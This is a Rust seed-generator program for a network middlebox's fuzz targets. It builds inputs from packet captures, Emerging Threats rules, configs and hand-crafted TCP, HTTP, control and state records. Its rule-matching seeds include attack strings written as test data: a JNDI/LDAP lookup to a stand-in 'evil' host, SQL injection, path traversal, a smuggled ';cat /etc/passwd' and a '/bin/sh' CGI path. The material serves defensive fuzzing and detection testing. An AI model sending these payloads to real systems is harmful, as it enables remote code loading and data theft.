//! Writes the generated seeds of mbox-fuzz's targets (`seeds/TARGET/NAME`) from the bundled
//! captures (testdata/pcaps), rules (testdata/rules) and configs (configs/, docs/config.md),
//! and a few made by hand where nothing bundled fits (reassembly, endpoint, control,
//! flow_state): `cargo run -p mbox-fuzz --example make_seeds`. It overwrites only the files it
//! writes; what libFuzzer found and the regression inputs in those folders stay.

use mbox_core::io::capture::{pcap_file_header, pcap_record_header, read_all};
use mbox_proto::http::{request_head, response_head, BodyLength};
use mbox_proto::Parse;
use mbox_stack::wire::{ip_proto, parse_frame, LinkType, Packet, ParseOptions};
use std::collections::{BTreeMap, BTreeSet};
use std::path::{Path, PathBuf};

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("..")
}

/// Seeds being written, by target then file name.
#[derive(Default)]
struct Seeds(BTreeMap<&'static str, BTreeMap<String, Vec<u8>>>);

impl Seeds {
    fn add(&mut self, target: &'static str, name: impl Into<String>, bytes: impl Into<Vec<u8>>) {
        self.0.entry(target).or_default().insert(name.into(), bytes.into());
    }
    fn count(&self, target: &str) -> usize {
        self.0.get(target).map_or(0, BTreeMap::len)
    }
}

/// A capture's short name: `ndpi__ftp.pcap` -> `ndpi__ftp`.
fn stem(path: &Path) -> String {
    path.file_stem().unwrap().to_string_lossy().into_owned()
}

fn captures() -> Vec<PathBuf> {
    let mut all: Vec<PathBuf> = std::fs::read_dir(repo().join("testdata/pcaps"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "pcap" || e == "pcapng"))
        .collect();
    all.sort();
    all
}

/// Application payloads of the captures: HTTP requests and responses (and the bodies after
/// their heads), TLS ClientHellos, SSH banners, DNS messages; and frames of every kind the
/// parser tells apart.
fn from_captures(seeds: &mut Seeds) {
    let mut frame_kinds = BTreeSet::new();
    for path in captures() {
        let name = stem(&path);
        let packets = read_all(&path).unwrap();
        let mut per_capture: BTreeMap<&str, usize> = BTreeMap::new();
        let mut take = |seeds: &Seeds, target: &'static str, most: usize, per: usize| {
            let n = per_capture.entry(target).or_default();
            if seeds.count(target) >= most || *n >= per {
                return None;
            }
            *n += 1;
            Some(format!("{name}-{}", *n))
        };
        for (i, (meta, data)) in packets.iter().enumerate() {
            let Ok(packet) = parse_frame(data, meta.wire_len, meta.link, ParseOptions { decap_tunnels: true }) else { continue };
            let link_index = mbox_fuzz::stack::LINKS.iter().position(|l| *l == meta.link).unwrap() as u8;
            let kind = match packet {
                Packet::Ip(p) => {
                    format!("{:?}-v{}-{}-{}-{}-{}", meta.link, p.ip_version, p.ip_proto, p.vlan_tags, p.tunnelled, p.fragment.is_some())
                }
                Packet::NonIp { ethertype } => format!("{:?}-{ethertype:04x}", meta.link),
            };
            if frame_kinds.len() < 48 && frame_kinds.insert(kind.clone()) {
                let mut seed = vec![link_index | 0x80];
                seed.extend_from_slice(&data[..data.len().min(512)]);
                seeds.add("parse", format!("{name}-{i}"), seed);
            }
            let Packet::Ip(p) = packet else { continue };
            let translatable = p.ip_proto == ip_proto::TCP || p.ip_proto == ip_proto::UDP;
            if meta.link == LinkType::Ethernet && p.ip_version == 4 && translatable && p.fragment.is_none() && !p.tunnelled {
                if let Some(n) = take(seeds, "nat", 16, 2) {
                    // A new tuple (198.18.0.1:40000 to 198.18.1.2:80), then the frame.
                    seeds.add("nat", n, [&[198, 18, 0, 1, 0x9c, 0x40, 198, 18, 1, 2, 0, 80][..], data].concat());
                }
            }
            let start = p.payload_offset as usize;
            if p.fragment.is_some_and(|f| f.offset > 0) || start >= data.len() || p.payload_len == 0 {
                continue;
            }
            let payload = &data[start..data.len().min(start + p.payload_len as usize)];
            let port = |n: u16| p.src_port == n || p.dst_port == n;
            if p.ip_proto == ip_proto::UDP && port(53) || p.ip_proto == ip_proto::TCP && port(53) && payload.len() > 14 {
                if let Some(n) = take(seeds, "dns", 20, 3) {
                    seeds.add("dns", n, payload);
                }
            }
            if p.ip_proto == ip_proto::UDP && p.dst_port == 443 {
                // One client datagram (the selector byte 0: no more after it).
                if let Some(n) = take(seeds, "quic", 16, 2) {
                    seeds.add("quic", n, [&[0][..], payload].concat());
                }
            }
            if p.ip_proto != ip_proto::TCP || payload.len() > 2000 {
                continue;
            }
            let method = payload.iter().take_while(|b| b.is_ascii_uppercase()).count();
            if (3..=10).contains(&method) && payload.get(method) == Some(&b' ') && request_head(payload) != Parse::Invalid {
                if let Some(n) = take(seeds, "http_request", 24, 2) {
                    seeds.add("http_request", n, payload);
                }
            }
            if payload.starts_with(b"HTTP/1.") {
                if let Some(n) = take(seeds, "http_response", 24, 2) {
                    seeds.add("http_response", n, payload);
                }
                if let Parse::Done(h) = response_head(payload, false) {
                    let body = &payload[h.head_len..];
                    let seed = match h.body {
                        BodyLength::Chunked if !body.is_empty() => Some([&[2][..], body].concat()),
                        BodyLength::Length(n) if !body.is_empty() => Some([&[1][..], &(n.min(65_535) as u16).to_le_bytes(), body].concat()),
                        _ => None,
                    };
                    if let Some(seed) = seed {
                        if let Some(n) = take(seeds, "http_body", 12, 1) {
                            seeds.add("http_body", n, seed);
                        }
                    }
                }
            }
            if payload.len() > 5 && payload[0] == 0x16 && payload[1] == 3 && payload[5] == 1 {
                if let Some(n) = take(seeds, "tls_hello", 16, 1) {
                    seeds.add("tls_hello", n, payload);
                }
            }
            if payload.len() > 5 && payload[0] == 0x16 && payload[1] == 3 && payload[5] == 2 {
                if let Some(n) = take(seeds, "tls_server", 16, 1) {
                    seeds.add("tls_server", n, payload);
                }
            }
            if payload.starts_with(b"SSH-") {
                if let Some(n) = take(seeds, "ssh_banner", 8, 2) {
                    seeds.add("ssh_banner", n, payload);
                }
            }
        }
    }
}

/// Packet sequences for the whole stack: the first packets of small captures, each cut to 253
/// bytes and length-prefixed, with the link selector (`crate::stack::fuzz_stack`).
fn stack_sequences(seeds: &mut Seeds) {
    for name in [
        "zeek__tcp__handshake-reorder.pcap",
        "zeek__tcp__miss_end_data.pcap",
        "zeek__tcp__retransmit-fast009.pcap",
        "zeek__tcp__tcp-fast-open.pcap",
        "zeek__tcp__reassembly.pcap",
        "zeek__dns-edns-tcp-keepalive.pcap",
        "ndpi__dns_fragmented.pcap",
        "ndpi__http_ipv6.pcap",
        "ndpi__psiphon3.pcap",
        "ndpi__tls_missing_ch_frag.pcap",
    ] {
        let path = repo().join("testdata/pcaps").join(name);
        let mut seed = Vec::new();
        for (meta, data) in read_all(&path).unwrap().iter().take(48) {
            let sel = match meta.link {
                LinkType::Ethernet => 2,
                LinkType::RawIp => 3,
                _ => continue,
            };
            let bytes = &data[..data.len().min(253)];
            seed.push(bytes.len() as u8 + 1);
            seed.push(sel);
            seed.extend_from_slice(bytes);
        }
        seeds.add("stack", stem(&path), seed);
    }
}

/// The first blocks of a pcapng file, up to `most` bytes (little-endian files only).
fn pcapng_head(bytes: &[u8], most: usize) -> &[u8] {
    let mut at = 0;
    while let Some(len) = bytes.get(at + 4..at + 8).map(|b| u32::from_le_bytes(b.try_into().unwrap()) as usize) {
        if len < 12 || at + len > most.min(bytes.len()) {
            break;
        }
        at += len;
    }
    &bytes[..at]
}

/// pcapng blocks: kind, body (padded to 4 bytes), lengths either side.
fn block(out: &mut Vec<u8>, kind: u32, body: &[u8], be: bool) {
    let u32b = |v: u32| if be { v.to_be_bytes() } else { v.to_le_bytes() };
    let mut body = body.to_vec();
    body.resize(body.len().div_ceil(4) * 4, 0);
    let total = 12 + body.len() as u32;
    out.extend_from_slice(&u32b(kind));
    out.extend_from_slice(&u32b(total));
    out.extend_from_slice(&body);
    out.extend_from_slice(&u32b(total));
}

/// Small captures as they are, the first blocks of bigger pcapng files, and files written here
/// in the variants the reader knows: big-endian and nanosecond pcap, pcapng with two sections
/// (one big-endian), simple and obsolete packet blocks, and timestamp options.
fn capture_files(seeds: &mut Seeds) {
    for path in captures() {
        let bytes = std::fs::read(&path).unwrap();
        if bytes.len() <= 7000 {
            seeds.add("capture", stem(&path), bytes);
        } else if bytes.starts_with(&[0x0a, 0x0d, 0x0d, 0x0a]) && seeds.count("capture") < 16 {
            seeds.add("capture", format!("{}-head", stem(&path)), pcapng_head(&bytes, 3000));
        }
    }
    let packets = read_all(&repo().join("testdata/pcaps/zeek__tcp__miss_end_data.pcap")).unwrap();
    // Nanosecond pcap, as mbox writes it.
    let mut ns = pcap_file_header(LinkType::Ethernet).to_vec();
    for (m, d) in &packets {
        ns.extend_from_slice(&pcap_record_header(m.ts_ns + 123, m.wire_len, d.len() as u32));
        ns.extend_from_slice(d);
    }
    seeds.add("capture", "written-nanosecond", ns);
    // Big-endian microsecond pcap, raw IP.
    let mut be = Vec::new();
    be.extend_from_slice(&0xa1b2_c3d4u32.to_be_bytes());
    be.extend_from_slice(&[0, 2, 0, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xff, 0, 0, 0, 101]);
    for (m, d) in &packets {
        let ip = &d[14..];
        for v in [(m.ts_ns / 1_000_000_000) as u32, (m.ts_ns % 1_000_000_000 / 1000) as u32, ip.len() as u32, ip.len() as u32 + 4] {
            be.extend_from_slice(&v.to_be_bytes());
        }
        be.extend_from_slice(ip);
    }
    seeds.add("capture", "written-big-endian-raw-ip", be);
    // pcapng: a little-endian section (Ethernet, nanoseconds and an offset; an enhanced, a
    // simple and an obsolete packet block, an unknown block), then a big-endian one (SLL).
    let mut ng = Vec::new();
    let shb = |be: bool| {
        let mut b = Vec::new();
        let put = |b: &mut Vec<u8>, v: u32| b.extend_from_slice(&if be { v.to_be_bytes() } else { v.to_le_bytes() });
        put(&mut b, 0x1a2b_3c4d);
        put(&mut b, 1); // version 1.0 (two u16 in the file's order)
        b.extend_from_slice(&[0xff; 8]); // section length unknown
        b
    };
    block(&mut ng, 0x0a0d_0d0a, &shb(false), false);
    let mut idb = vec![1, 0, 0, 0, 0, 0, 4, 0]; // Ethernet, snaplen 1024
    idb.extend_from_slice(&[9, 0, 1, 0, 9, 0, 0, 0]); // if_tsresol: nanoseconds
    idb.extend_from_slice(&[14, 0, 8, 0]);
    idb.extend_from_slice(&1_000i64.to_le_bytes()); // if_tsoffset: 1000 s
    idb.extend_from_slice(&[0, 0, 0, 0]);
    block(&mut ng, 1, &idb, false);
    let (m, d) = &packets[0];
    let mut epb = Vec::new();
    for v in [0u32, (m.ts_ns >> 32) as u32, m.ts_ns as u32, d.len() as u32, m.wire_len] {
        epb.extend_from_slice(&v.to_le_bytes());
    }
    epb.extend_from_slice(d);
    block(&mut ng, 6, &epb, false);
    let mut spb = (d.len() as u32).to_le_bytes().to_vec();
    spb.extend_from_slice(d);
    block(&mut ng, 3, &spb, false);
    let mut opb = vec![0, 0, 0, 0];
    for v in [(m.ts_ns >> 32) as u32, m.ts_ns as u32, d.len() as u32, m.wire_len] {
        opb.extend_from_slice(&v.to_le_bytes());
    }
    opb.extend_from_slice(d);
    block(&mut ng, 2, &opb, false);
    block(&mut ng, 0x0bad, b"custom", false);
    block(&mut ng, 0x0a0d_0d0a, &shb(true), true);
    block(&mut ng, 1, &[0, 113, 0, 0, 0, 0, 0, 0], true);
    let sll = [&[0, 0, 0, 1, 0, 6, 0, 0, 0, 0, 0, 0, 0, 0, 8, 0][..], &d[14..]].concat();
    let mut epb = Vec::new();
    for v in [0u32, 0, 1_000_000, sll.len() as u32, sll.len() as u32] {
        epb.extend_from_slice(&v.to_be_bytes());
    }
    epb.extend_from_slice(&sll);
    block(&mut ng, 6, &epb, true);
    seeds.add("capture", "written-pcapng-two-sections", ng);
}

/// Signature rules: the demo rules (whole file, and each with bytes it matches), and a sample
/// of Emerging Threats Open rules (sids 2000000-2799999, BSD-licensed; see seeds/README.md).
fn rules(seeds: &mut Seeds) {
    let custom = std::fs::read_to_string(repo().join("testdata/rules/custom.rules")).unwrap();
    let request = b"GET /a/../b?q=1%20union%20select%20*;cat%20/etc/passwd HTTP/1.1\r\nHost: www.netflix.com\r\nUser-Agent: curl/8.0 ${jndi:ldap://x}\r\n\r\n";
    seeds.add("rules", "custom-all", [custom.as_bytes(), &[0], request].concat());
    let payloads: [&[u8]; 10] = [
        b"${jndi:ldap://evil/a}",
        b"/x?id=1 UNION ALL SELECT pass",
        b"/../../etc",
        b"/cgi-bin/x;/bin/sh",
        b"MZ\x90\x00\x03\x00\x00\x00PE\x00\x00L\x01",
        b"www.netflix.com",
        b"OpenSSH_8.9p1",
        b"EHLO x\r\nSTARTTLS\r\n",
        b"www.example.com",
        b"GET / HTTP/1.1\r\nUser-Agent: curl/7.1\r\n\r\n",
    ];
    for (i, (line, payload)) in custom.lines().zip(payloads).enumerate() {
        seeds.add("rules", format!("custom-{}", i + 1), [line.as_bytes(), &[0], payload].concat());
    }
    // ET Open: the first short active rule of each kind of option.
    let et = std::fs::read_to_string(repo().join("testdata/rules/et-open/et-open.rules")).unwrap();
    let mut sample = String::new();
    for feature in [
        "pcre:",
        "http.uri;",
        "http.host;",
        "http.user_agent;",
        "tls.sni;",
        "dns.query;",
        "byte_test:",
        "flowbits:",
        "isdataat:",
        "threshold:",
        "within:",
        "offset:",
        "endswith;",
        "file.data;",
        "ssh.software",
        "<>",
        "$HTTP_PORTS",
        "!$HOME_NET",
        "[",
    ] {
        let Some(rule) = et.lines().filter(|l| l.starts_with("alert ") && l.len() < 420).find(|l| l.contains(feature)) else {
            continue;
        };
        if sample.contains(rule) {
            continue;
        }
        sample.push_str(rule);
        sample.push('\n');
        let n = seeds.count("rules");
        seeds.add("rules", format!("et-open-{n}"), [rule.as_bytes(), &[0], request].concat());
    }
    let mut first = String::new();
    for l in et.lines().filter(|l| l.starts_with("alert ") || l.starts_with("#")).take(60) {
        first.push_str(l);
        first.push('\n');
    }
    seeds.add("rules", "et-open-first-lines", first);
}

fn configs(seeds: &mut Seeds) {
    let mut files: Vec<PathBuf> =
        std::fs::read_dir(repo().join("configs")).unwrap().map(|e| e.unwrap().path()).filter(|p| p.is_file()).collect();
    files.sort();
    for path in files {
        seeds.add("config", stem(&path), std::fs::read(&path).unwrap());
    }
    // The annotated config in docs/config.md, and the same with its commented keys enabled.
    let doc = std::fs::read_to_string(repo().join("docs/config.md")).unwrap();
    let Some(toml) = doc.split("```toml\n").nth(1).and_then(|t| t.split("```").next()) else { return };
    seeds.add("config", "docs-config-md", toml);
    let enabled: String =
        toml.lines().map(|l| l.strip_prefix("# ").filter(|k| k.contains(" = ")).unwrap_or(l).to_string() + "\n").collect();
    seeds.add("config", "docs-config-md-all-keys", enabled);
}

fn by_hand(seeds: &mut Seeds) {
    // Body decoders: chunks with extensions and a trailer, a length, until close.
    seeds.add(
        "http_body",
        "chunked-wikipedia",
        &b"\x024\r\nWiki\r\n7; ext=1\r\npedia i\r\nB\r\nn \r\nchunks.\r\n0\r\nX-Trailer: 1\r\n\r\nGET"[..],
    );
    seeds.add("http_body", "length-5", &b"\x01\x05\x00helloGET / HTTP/1.1"[..]);
    seeds.add("http_body", "until-close", &b"\x03anything at all"[..]);
    // The control socket's requests.
    for (name, line) in [
        ("status", r#"{"command":"status"}"#),
        ("stats", r#"{"command":"stats"}"#),
        ("graph", r#"{"command":"graph"}"#),
        ("subscriptions", r#"{"command":"subscriptions","nf":"dpi"}"#),
        ("reload", r#"{"command":"reload","nf":"flow-stats","path":"target/debug/libflow_stats.so"}"#),
        ("reload-default", r#"{"command":"reload","nf":"flow-stats"}"#),
        ("unknown", r#"{"command":"explode"}"#),
        ("extra-field", r#"{"command":"stats","x":1}"#),
        ("not-json", "stats please"),
    ] {
        seeds.add("control", name, format!("{line}\n"));
    }
    // flow-stats' saved state: version 1, shards, then per flow shard, slot, id, first and
    // last timestamp, monotonic, first SYN's and SYN+ACK's direction, two directions.
    let flow = |shard: u16, slot: u32, syn: u8, synack: u8| {
        let mut f = shard.to_le_bytes().to_vec();
        f.extend_from_slice(&slot.to_le_bytes());
        for v in [42u64, 1_000, 2_000] {
            f.extend_from_slice(&v.to_le_bytes());
        }
        f.extend_from_slice(&[1, syn, synack]);
        for d in 0..2u64 {
            for v in [3 + d, 300, 280, 100] {
                f.extend_from_slice(&v.to_le_bytes());
            }
            f.push(0x12);
        }
        f
    };
    let state = |shards: u32, flows: &[Vec<u8>]| [&[1u8][..], &shards.to_le_bytes(), &flows.concat()].concat();
    seeds.add("flow_state", "empty", state(1, &[]));
    seeds.add("flow_state", "one-shard-two-flows", state(1, &[flow(0, 1, 0, 1), flow(0, 5, 0xff, 0xff)]));
    seeds.add("flow_state", "two-shards", state(2, &[flow(1, 63, 1, 0), flow(0, 0, 0, 0xff)]));
    seeds.add("flow_state", "slot-past-the-table", state(1, &[flow(0, 64, 0, 1)]));
    // Reassembly records: kind, seq (bytes 1, 2, 3, 7), len (u16), captured (x16).
    let rec = |kind: u8, seq: u32, len: u16, captured: u8| {
        let s = (seq + 30_000).to_le_bytes();
        [kind, s[0], s[1], s[2], len as u8, (len >> 8) as u8, captured, s[3]]
    };
    let in_order: Vec<u8> = [rec(0x10, 0, 0, 0), rec(0, 1, 100, 7), rec(0, 101, 100, 7), rec(1, 201, 0, 0)].concat();
    seeds.add("reassembly", "in-order", in_order);
    let reordered: Vec<u8> =
        [rec(0x10, 0, 0, 0), rec(0, 201, 100, 7), rec(0, 101, 100, 7), rec(3, 106, 50, 4), rec(0, 1, 100, 7), rec(1, 301, 0, 0)].concat();
    seeds.add("reassembly", "reordered-overlapping", reordered);
    let gap: Vec<u8> = [rec(0x10, 0, 0, 0), rec(0, 1, 100, 7), rec(0, 2001, 100, 7), rec(1, 2101, 0, 0), rec(0xe2, 0, 0, 0)].concat();
    seeds.add("reassembly", "gap-then-abandon", gap);
    let wrap: Vec<u8> = [rec(0x10, 29_000, 0, 0), rec(0, 29_001, 2000, 125), rec(0, 31_001, 2000, 125)].concat();
    seeds.add("reassembly", "across-the-wrap", wrap);
    // Endpoint: a SYN, then the ACK of the handshake, data, a write, time, a close. A header
    // with seq and ack 0 lands exactly where the connection expects it.
    let tcp = |flags: u8, options: &[u8]| {
        let mut h = vec![0x30, 0x39, 0, 80, 0, 0, 0, 0, 0, 0, 0, 0, ((5 + options.len() / 4) as u8) << 4, flags, 0xff, 0xff, 0, 0, 0, 0];
        h.extend_from_slice(options);
        h
    };
    let syn = tcp(0x02, &[2, 4, 5, 0xb4, 4, 2, 1, 3, 3, 7]);
    let syn = [&syn[..], &[0, 0]].concat(); // pad the options to 12 bytes
    let mut s = vec![syn.len() as u8];
    s.extend_from_slice(&syn);
    let ack = tcp(0x10, &[]);
    s.push(0);
    s.push(ack.len() as u8);
    s.extend_from_slice(&ack);
    let data = [&tcp(0x18, &[])[..], b"GET / HTTP/1.1\r\n\r\n"].concat();
    s.push(1);
    s.push(data.len() as u8);
    s.extend_from_slice(&data);
    s.extend_from_slice(&[3, 4, 2, 5]);
    seeds.add("endpoint", "handshake-data-write-close", s.clone());
    let mut abort = s[..s.len() - 4].to_vec();
    abort.extend_from_slice(&[0x83, 0x85]);
    seeds.add("endpoint", "handshake-data-abort", abort);
    seeds.add("endpoint", "syn-only", [&[syn.len() as u8][..], &syn].concat());
}

fn main() {
    let mut seeds = Seeds::default();
    from_captures(&mut seeds);
    stack_sequences(&mut seeds);
    capture_files(&mut seeds);
    rules(&mut seeds);
    configs(&mut seeds);
    by_hand(&mut seeds);
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("seeds");
    for (target, files) in &seeds.0 {
        let d = dir.join(target);
        std::fs::create_dir_all(&d).unwrap();
        let bytes: usize = files.values().map(Vec::len).sum();
        for (name, data) in files {
            std::fs::write(d.join(name), data).unwrap();
        }
        println!("{target}: {} seeds, {bytes} bytes", files.len());
    }
}
